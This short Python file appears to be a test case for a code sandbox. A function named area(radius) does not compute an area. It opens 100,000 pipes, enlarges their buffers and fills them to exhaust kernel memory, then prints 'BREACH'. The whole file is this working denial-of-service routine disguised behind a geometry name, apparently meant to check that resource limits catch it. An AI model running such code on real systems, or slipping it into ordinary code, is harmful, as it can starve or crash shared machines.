"""error: fills pipes, whose memory is the kernel's"""

import fcntl
import os


def area(radius):
    for _ in range(100_000):
        reading, writing = os.pipe()
        os.set_blocking(writing, False)
        try:
            fcntl.fcntl(writing, 1031, 1 << 20)
        except PermissionError:
            pass
        try:
            while True:
                os.write(writing, bytes(1 << 16))
        except BlockingIOError:
            pass
    print("BREACH", "100,000 pipes")
